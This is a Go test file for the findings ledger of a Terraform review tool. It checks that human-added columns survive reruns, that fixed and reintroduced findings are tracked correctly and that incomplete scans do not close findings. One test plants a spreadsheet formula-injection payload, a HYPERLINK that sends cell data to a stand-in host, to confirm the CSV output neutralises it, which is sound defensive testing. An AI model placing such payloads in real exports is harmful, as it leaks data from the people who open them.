package ledger

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tfreview/tfreview/finding"
	"github.com/tfreview/tfreview/lifecycle"
)

func findings() []finding.Finding {
	mk := func(rule string, sev finding.Severity, addr string) finding.Finding {
		return finding.Finding{RuleID: rule, Severity: sev, Title: "T " + rule, Resource: addr, Resolution: "do X",
			Range: finding.Range{File: "main.tf", Start: finding.Position{Line: 4}}}
	}
	return []finding.Finding{
		mk("R1", finding.SeverityCritical, "aws_s3_bucket.a"),
		mk("R2", finding.SeverityHigh, "aws_s3_bucket.b"),
	}
}

// runOnce is one track run with no tracker: the ledger's rows are the
// tickets the plan compares with.
func runOnce(t *testing.T, path string, fs []finding.Finding, day string) *Ledger {
	t.Helper()
	l, err := Read(path)
	if err != nil {
		t.Fatal(err)
	}
	gs := lifecycle.GroupFindings(fs)
	p := lifecycle.Reconcile(gs, l.Tickets(), "c")
	now, _ := time.Parse(DateLayout, day)
	l.Apply(p, nil, now)
	if err := l.Write(path); err != nil {
		t.Fatal(err)
	}
	return l
}

func byRule(l *Ledger) map[string]Row {
	out := map[string]Row{}
	for _, r := range l.Rows {
		out[r["rule_id"]] = r
	}
	return out
}

// TestLedgerKeepsHumanColumns: a decision column a person added survives
// three runs (one of which fixes a finding), first_seen never moves, a
// gone finding is marked fixed with its day, in CSV and XLSX.
func TestLedgerKeepsHumanColumns(t *testing.T) {
	for _, ext := range []string{".csv", ".xlsx"} {
		t.Run(ext, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "ledger"+ext)
			runOnce(t, path, findings(), "2026-11-01")
			// A person adds a decision column and fills it in.
			l, err := Read(path)
			if err != nil {
				t.Fatal(err)
			}
			l.Header = append(l.Header, "decision")
			for _, r := range l.Rows {
				r["decision"] = "fix by " + r["rule_id"]
			}
			if err := l.Write(path); err != nil {
				t.Fatal(err)
			}
			runOnce(t, path, findings(), "2026-11-08")
			runOnce(t, path, findings()[:1], "2026-11-15") // R2 fixed
			l = runOnce(t, path, findings()[:1], "2026-11-22")
			rows := byRule(l)
			if !slices.Contains(l.Header, "decision") {
				t.Fatalf("decision column lost: %v", l.Header)
			}
			for _, rule := range []string{"R1", "R2"} {
				if got := rows[rule]["decision"]; got != "fix by "+rule {
					t.Errorf("%s decision = %q after three runs", rule, got)
				}
				if got := rows[rule]["first_seen"]; got != "2026-11-01" {
					t.Errorf("%s first_seen = %q, want 2026-11-01", rule, got)
				}
			}
			if r := rows["R1"]; r["status"] != StatusOpen || r["last_seen"] != "2026-11-22" || r["fixed_at"] != "" {
				t.Errorf("R1 row: %v", r)
			}
			if r := rows["R2"]; r["status"] != StatusFixed || r["fixed_at"] != "2026-11-15" || r["last_seen"] != "2026-11-08" {
				t.Errorf("R2 row: %v", r)
			}
			// Reintroduced: open again, fixed_at cleared, first_seen kept.
			l = runOnce(t, path, findings(), "2026-11-29")
			if r := byRule(l)["R2"]; r["status"] != StatusOpen || r["fixed_at"] != "" || r["first_seen"] != "2026-11-01" {
				t.Errorf("reintroduced R2 row: %v", r)
			}
		})
	}
}

// TestHostileLedgerFormula: a title or resource starting with = cannot
// become a spreadsheet formula in the CSV ledger.
func TestHostileLedgerFormula(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ledger.csv")
	fs := findings()
	fs[0].Title = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	fs[0].Resource = `@SUM(1+1)`
	runOnce(t, path, fs, "2026-11-01")
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, v := range rec {
			if v != "" && strings.ContainsRune("=+-@", rune(v[0])) {
				t.Errorf("cell %q starts a formula", v)
			}
		}
	}
	// And a rerun is stable: the apostrophe is not doubled.
	runOnce(t, path, fs, "2026-11-02")
	b, _ := os.ReadFile(path)
	if strings.Contains(string(b), "''") {
		t.Errorf("apostrophe doubled:\n%s", b)
	}
}

// TestLedgerHeldClose: when a scan is incomplete (a file did not parse),
// the groups it no longer sees are not marked fixed.
func TestLedgerHeldClose(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ledger.csv")
	runOnce(t, path, findings(), "2026-11-01")
	l, err := Read(path)
	if err != nil {
		t.Fatal(err)
	}
	parse := finding.Finding{RuleID: "TFR-PARSE", Severity: finding.SeverityHigh, Range: finding.Range{File: "main.tf", Start: finding.Position{Line: 1}}}
	rep := finding.Report{Findings: []finding.Finding{parse}}
	p := lifecycle.Reconcile(lifecycle.GroupFindings(rep.Findings), l.Tickets(), "c")
	if why := lifecycle.Incomplete(rep); why == "" || p.HoldCloses() != 2 {
		t.Fatalf("incomplete scan not detected (%q) or closes not held", why)
	}
	now, _ := time.Parse(DateLayout, "2026-11-08")
	l.Apply(p, nil, now)
	for _, r := range l.Rows {
		if r["rule_id"] != "TFR-PARSE" && r["status"] != StatusOpen {
			t.Errorf("row %s marked %s by an incomplete scan", r["rule_id"], r["status"])
		}
	}
}
